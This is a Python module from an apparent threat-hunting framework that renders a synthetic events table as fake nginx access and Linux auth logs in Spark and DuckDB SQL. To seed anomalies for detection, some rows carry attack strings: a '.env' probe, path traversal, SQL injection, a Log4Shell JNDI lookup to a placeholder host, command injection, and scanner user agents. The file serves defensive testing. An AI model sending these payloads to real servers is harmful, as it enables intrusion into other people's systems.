"""Registration of queries, and the driver's tables rendered as logs - once as Spark, once as SQL.

A query is registered with the SQL that gives the same rows from the same tables.  The
rendering expressions are the same text in both dialects but for times.
"""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from huntframe.sources.store import dealt

Query = Callable[[SparkSession, str], DataFrame]
QUERIES: dict[str, Query] = {}
SQL: dict[str, str] = {}


def query(name: str, sql: str | None = None) -> Callable[[Query], Query]:
    def add(f: Query) -> Query:
        QUERIES[name] = f
        if sql is not None:
            SQL[name] = sql
        return f

    return add


def table(spark: SparkSession, sf: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf}/{name}.parquet")


def q(text: str) -> str:
    """A SQL string."""
    return "'" + text.replace("'", "''") + "'"


def matches(column: str, pattern: str) -> str:
    return f"regexp_matches({column}, {q(pattern)})"


def any_of(*names: str) -> str:
    return "(" + ", ".join(map(q, names)) + ")"


#: Times in both dialects.
SPARK_TIME = {
    "us": "unix_micros(CAST(ts AS TIMESTAMP))",
    "iso": "date_format(ts, \"yyyy-MM-dd'T'HH:mm:ss\")",
    "access": "date_format(ts, 'dd/MMM/yyyy:HH:mm:ss')",
    "syslog": "date_format(ts, 'MMM dd HH:mm:ss')",
}
DUCK_TIME = {
    "us": "epoch_us(ts)",
    "iso": "strftime(ts, '%Y-%m-%dT%H:%M:%S')",
    "access": "strftime(ts, '%d/%b/%Y:%H:%M:%S')",
    "syslog": "strftime(ts, '%b %d %H:%M:%S')",
}


class Rendered:
    """Columns over a table, in steps that may use the step before; ``{us}``, ``{iso}``, ... are times."""

    def __init__(self, source: str, *steps: dict[str, str], where: str | None = None):
        self.source, self.steps, self.where = source, steps, where

    def spark(self, spark: SparkSession, sf: str, deal: bool = False) -> DataFrame:
        """``deal``: few bytes a row and much to do with it, of which the table's files alone would make few tasks."""
        df = table(spark, sf, self.source)
        if deal:
            df = dealt(df)
        if self.where:
            df = df.where(self.where)
        for step in self.steps:
            df = df.withColumns({n: F.expr(self._time(e, SPARK_TIME)) for n, e in step.items()})
        return df

    def sql(self, name: str) -> str:
        """A chain of common table expressions that ends in ``name``."""
        parts, last = [], self.source + (f" WHERE {self.where}" if self.where else "")
        for i, step in enumerate(self.steps):
            own = name if i == len(self.steps) - 1 else f"{name}_{i}"
            # A column that is made replaces one of the table.
            made = ", ".join(f"{self._time(e, DUCK_TIME)} AS {n}" for n, e in step.items())
            parts.append(f"{own} AS (SELECT COLUMNS(lambda c: c NOT IN {any_of(*step)}), {made} FROM {last})")
            last = own
        return ", ".join(parts)

    @staticmethod
    def _time(text: str, times: dict[str, str]) -> str:
        for k, v in times.items():
            text = text.replace("{" + k + "}", v)
        return text


#: Events as requests to a web server.
WEB = Rendered(
    "events",
    {
        "us": "{us}",
        "line_no": "event_id",
        "src_file": "'events'",
        "log_type": "'nginx-access'",
        "src_ip": "concat('10.', CAST(floor(user_id / 250) % 250 AS INT), '.', user_id % 250, '.7')",
        "dst_ip": "concat('192.168.1.', event_id % 9)",
        "user": "concat('u', user_id % 40)",
        "status": "CASE event_type WHEN 'error' THEN 404 WHEN 'signup' THEN 201 ELSE 200 END",
        "method": "CASE event_type WHEN 'purchase' THEN 'POST' WHEN 'signup' THEN 'PUT' ELSE 'GET' END",
        "uri": """concat('/', event_type, '/', event_id, CASE
            WHEN event_id % 97 = 0 THEN '/.env' WHEN event_id % 89 = 0 THEN '/../../x' WHEN event_id % 83 = 0 THEN '?q=1 union all select 2'
            WHEN event_id % 79 = 0 THEN concat('?x=', chr(36), '{jndi:ldap://h/a}') WHEN event_id % 73 = 0 THEN concat('?', repeat('a', 1100))
            WHEN event_id % 71 = 0 THEN '?cmd=whoami&x=sleep(5)' ELSE '' END)""",
        "ua": """CASE user_id % 7 WHEN 0 THEN 'sqlmap/1.7' WHEN 1 THEN '-' WHEN 2 THEN '' WHEN 3 THEN 'curl/8.4'
            WHEN 4 THEN 'Nuclei - Open-source project' WHEN 5 THEN '!!!!!!' ELSE 'Mozilla/5.0 (X11) Firefox/115.0' END""",
        "bytes": "CAST(floor(value * 400000) AS BIGINT)",
    },
    {
        "raw_line": """concat(src_ip, ' - ', user, ' [', {access}, ' +0000] "', method, ' ', uri, ' HTTP/1.1" ', status, ' ', bytes, ' "-" "', ua, '"')""",
        "msg": "concat(method, ' ', uri, ' ', status)",
    },
    {"ts": "{iso}"},
)

#: Events as lines of a log-in log.
AUTH = Rendered(
    "events",
    {
        "us": "{us}",
        "line_no": "event_id",
        "src_file": "'events'",
        "log_type": "'linux-auth'",
        "src_ip": "concat('10.', CAST(floor(user_id / 25) AS INT), '.', user_id % 25, '.7')",
        "user": "CASE WHEN user_id % 5 = 0 THEN 'root' ELSE concat('u', user_id % 40) END",
        "msg": """CASE event_type WHEN 'error' THEN 'ssh-fail password' WHEN 'purchase' THEN CASE WHEN event_id % 3 = 0 THEN 'ssh-success publickey' ELSE 'ssh-success password' END
            WHEN 'signup' THEN concat('useradd[1]: new user: name=n', event_id % 50, ', UID=1') WHEN 'click' THEN 'sudo: u : TTY=pts/0 ; COMMAND=/bin/ls'
            ELSE CASE WHEN event_id % 10 = 0 THEN concat('userdel[2]: delete user u', (event_id + 1) % 40) ELSE 'cron: session opened' END END""",
    },
    {"ts": "{iso}"},
)


def web(spark: SparkSession, sf: str, deal: bool = False) -> DataFrame:
    return WEB.spark(spark, sf, deal)


def auth(spark: SparkSession, sf: str) -> DataFrame:
    return AUTH.spark(spark, sf)


#: The number of rows within W microseconds up to a row, as a queue would count them.
def queue_sql(key: str, window_us: int, ties: str = "line_no") -> str:
    return (
        f"row_number() OVER (PARTITION BY {key} ORDER BY us, {ties}) - "
        f"coalesce(count(*) OVER (PARTITION BY {key} ORDER BY us RANGE BETWEEN UNBOUNDED PRECEDING AND {window_us + 1} PRECEDING), 0)"
    )
